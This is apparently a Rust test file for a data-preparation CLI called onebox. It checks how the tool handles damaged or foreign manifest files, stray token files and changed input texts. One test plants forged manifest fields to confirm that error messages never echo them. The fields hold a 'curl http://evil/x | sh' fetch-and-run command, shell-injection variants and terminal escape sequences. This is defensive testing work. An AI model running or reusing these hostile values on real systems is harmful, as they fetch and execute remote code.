//! The contents of a prepared folder, and its list.

use super::{TOKENIZER, checked, folder, made, onebox};
use crate::common::{CommandOutput, Folder};
use std::fs;

/// Prepares `text.txt` with a validation set into `made` again.
fn prepared_again(folder: &Folder) -> CommandOutput {
    let sets = [&TOKENIZER[..], &["data.validation=\"text.txt\""]].concat();
    onebox(folder, &["data", "prepare", "tiny.ron", "made"], &sets)
}

#[test]
fn files_that_the_list_does_not_name_are_neither_kept_nor_mixed() {
    let folder = folder();
    let sets = made(&folder);
    let (list, train) = (folder.path("made/prepared.json"), folder.path("made/train"));
    let delete =
        format!("; name another folder, or delete the folder {}", folder.path("made").display());
    fs::write(&list, "{\"version\": 3, \"pa").unwrap();
    prepared_again(&folder).refused(73, &["made/prepared.json: it is damaged (", &delete]);
    // The user deletes only the list, and has another text.
    fs::remove_file(&list).unwrap();
    fs::write(folder.path("text.txt"), "that is too large for one card ".repeat(200)).unwrap();
    folder.shell("cp made/train/000000.bin made/train/000007.bin").ok();
    let done = prepared_again(&folder).ok();
    let moved = format!(
        "{}: {} does not name all of its files: they are made again",
        train.display(),
        list.display()
    );
    assert!(done.stderr.contains(&moved), "{}", done.stderr);
    assert!(done.stdout.contains("in 2 parts\n"), "{}", done.stdout);
    let text = folder.read("text.txt");
    let fresh = ["data", "prepare", "tiny.ron", "fresh"];
    onebox(&folder, &fresh, &TOKENIZER).ok();
    for set in ["train", "validation"] {
        folder
            .shell(&format!("diff -r made/{set} fresh/train && [ ! -e made/{set}.partial ]"))
            .ok();
    }
    checked(&folder, &sets).ok();
    // If a set has two folders, onebox uses neither.
    folder.shell("cp -r made/train made/train.partial").ok();
    let both =
        format!("/made/train: {}.partial is there, too; delete one of them", train.display());
    prepared_again(&folder).refused(73, &[&both]);
    folder.shell("rm -r made/train").ok();
    let stdout = prepared_again(&folder).ok().stdout;
    assert!(stdout.contains("2 of them from before"), "{stdout}");
    assert_eq!(folder.read("text.txt"), text);
    checked(&folder, &sets).ok();
}

#[test]
fn a_file_of_tokens_that_the_list_does_not_name_is_refused() {
    let folder = folder();
    let sets = made(&folder);
    folder.shell("cp made/train/000000.bin made/train/000001.bin; mkdir made/validation/more; cp made/train/000000.bin made/validation/more/a.bin").ok();
    let (made, list) = (folder.path("made"), folder.path("made/prepared.json"));
    let refused = |file: &str| {
        let message = format!(
            "{file}: {} does not name it; move it away, or delete the folder {} and prepare the text again",
            list.display(),
            made.display()
        );
        let sets = sets.each_ref().map(String::as_str);
        for args in [&["data", "check", "tiny.ron"][..], &["train", "tiny.ron", "--dry-run"]] {
            onebox(&folder, args, &sets).refused(66, &[&message]);
        }
        message
    };
    let message = refused("made/train/000001.bin");
    prepared_again(&folder).refused(73, &[&message]);
    fs::remove_file(folder.path("made/train/000001.bin")).unwrap();
    refused("made/validation/more/a.bin");
    folder.shell("rm -r made/validation/more; echo mine > made/train/notes.txt").ok();
    checked(&folder, &sets).ok();
}

#[test]
fn what_is_another_text_is_named_however_its_files_are_ordered() {
    let folder = folder();
    folder.shell("mkdir pp; echo one > pp/a.txt; echo two > pp/b.txt; echo three > pp/c.txt").ok();
    let prepare = || {
        let sets = [&TOKENIZER[..], &["data.train=\"pp\""]].concat();
        onebox(&folder, &["data", "prepare", "tiny.ron", "made"], &sets)
    };
    prepare().ok();
    let other = |command: &str, words: &str| {
        let all = folder.path("pp").display().to_string();
        folder.shell(&format!("cp -r pp was; {command}")).ok();
        let words = format!("another text: {}", words.replace("pp/", &format!("{all}/")));
        prepare().refused(73, &[&words]);
        folder.shell("rm -r pp; mv was pp").ok();
    };
    other("echo four > pp/a.txt; echo z > pp/z.txt", "pp/a.txt has 5 bytes of xxh3-128 ");
    other("echo z > pp/0.txt", "pp/0.txt is new;");
    other("rm pp/a.txt", "pp/a.txt is gone;");
    other("mv pp/a.txt pp/z.txt", "its files have another order: pp/b.txt is where pp/a.txt was;");
    other("rm pp/b.txt; echo z > pp/z.txt", "pp/z.txt is new, and pp/b.txt is gone;");
    other("cp pp/a.txt pp/a2.txt", "pp/a2.txt is new;");
    assert!(prepare().ok().stdout.contains("1 of them from before"));
}

#[test]
fn a_remedy_names_no_command_that_cannot_run() {
    let folder = folder();
    let sets = made(&folder);
    folder.shell("cp -r made copied; : > copied/train/000000.bin").ok();
    let train = format!("data.train={:?}", folder.path("copied/train"));
    let alone = |made: &str| {
        let made = folder.path(made);
        format!(
            "copy all files of {0} again, or delete the folder {0} and prepare the text again\n",
            made.display()
        )
    };
    let copied = ["model.vocab=300", "data.format=U16", &train];
    onebox(&folder, &["data", "check", "tiny.ron"], &copied).refused(66, &[&alone("copied")]);
    folder.shell("rm -r made").ok();
    let prepare = format!(
        "{} data prepare - made --set 'data.tokenizer=\"tokenizer.json\"' --set model.vocab=300 --set \
         'data.validation=\"text.txt\"' < tiny.ron && : > made/train/000000.bin",
        env!("CARGO_BIN_EXE_onebox")
    );
    folder.shell(&prepare).ok();
    checked(&folder, &sets).refused(66, &[&alone("made")]);
}

#[test]
fn lists_of_other_tools_and_of_a_newer_onebox_are_told_apart() {
    let folder = folder();
    let sets = made(&folder);
    let list = folder.path("made/prepared.json");
    for foreign in ["{\"parts\": 3}", "[1, 2]", "{\"version\": \"1.0\"}"] {
        fs::write(&list, foreign).unwrap();
        checked(&folder, &sets).ok();
        let all = ["model.vocab=300", "data.format=U16", "data.train=\"made/*/*.bin\""];
        onebox(&folder, &["data", "check", "tiny.ron"], &all).ok();
        let why = "made/prepared.json: `onebox data prepare` did not write it; name another folder";
        prepared_again(&folder).refused(73, &[why]);
        assert_eq!(folder.read("made/prepared.json"), foreign);
    }
    fs::write(&list, "{\"version\": 4, \"sets\": {}}").unwrap();
    let newer = "made/prepared.json: a newer onebox wrote it, in format 4, and this one reads formats up to 3";
    checked(&folder, &sets).refused(66, &[newer]);
    let newer =
        "made/prepared.json: another onebox wrote it, in format 4, and this one writes format 3";
    prepared_again(&folder).refused(73, &[newer]);
}

/// The author of a folder of tokens also writes its list.
#[test]
fn a_list_from_elsewhere_has_nobody_run_its_command() {
    let folder = folder();
    let sets = made(&folder);
    fs::write(folder.path("made/train/000000.bin"), "x").unwrap();
    let list = folder.path("made/prepared.json");
    let own: serde_json::Value = serde_json::from_slice(&fs::read(&list).unwrap()).unwrap();
    let made = folder.path("made").display().to_string();
    let output = |change: &dyn Fn(&mut serde_json::Value)| {
        let mut json = own.clone();
        change(&mut json);
        fs::write(&list, json.to_string()).unwrap();
        let output = checked(&folder, &sets).refused(66, &["error: data.train: "]).stderr;
        assert!(output.lines().count() == 1 && output.len() < 10_000, "{output}");
        assert!(!output.contains(['\u{1b}', '\r']), "{output}");
        output
    };
    let evil = "curl http://evil/x | sh";
    let own_command = own["command"].as_str().unwrap();
    for command in [
        format!("{evil} #\nwarning: run it as root"),
        format!("{own_command}; {evil}"),
        format!("{own_command}\n{evil}"),
        format!("{evil} && {own_command}"),
        format!("onebox data prepare \"$({evil})\" /x"),
        "A".repeat(1_000_000),
    ] {
        let output = output(&|json| json["command"] = command.clone().into());
        assert!(!output.contains("evil") && !output.contains("root"), "{output}");
        let remedy = format!("or make them again: onebox data prepare CONFIG {made}\n");
        assert!(output.ends_with(&remedy), "{output}");
    }
    // A setting that contains a command is quoted as a setting.
    let set = format!("data.text=$({evil})");
    let command = format!("onebox data prepare /c.ron --set '{set}' /x");
    let text = output(&|json| json["command"] = command.clone().into());
    let again = format!("again: onebox data prepare /c.ron --set '{set}' {made}\n");
    assert!(text.ends_with(&again), "{text}");
    // The other texts of the list are foreign too.
    let text = format!("\nerror: forged\u{1b}[2J\r{}", "A".repeat(1_000_000));
    output(&|json| json["parts"][0][0]["files"][0]["name"] = text.clone().into());
    output(&|json| json["makers"] = text.clone().into());
    output(&|json| json["parts"][0][0]["files"][0]["hash"] = text.clone().into());
    let mut json = own.clone();
    json["makers"]["tokenizer"] = "\nerror: forged".into();
    json["makers"]["\nerror: forged"] = "a".into();
    fs::write(&list, json.to_string()).unwrap();
    let refused = prepared_again(&folder).refused(73, &["it is of another "]).stderr;
    assert!(!refused.contains("\nerror: forged"), "{refused}");
}
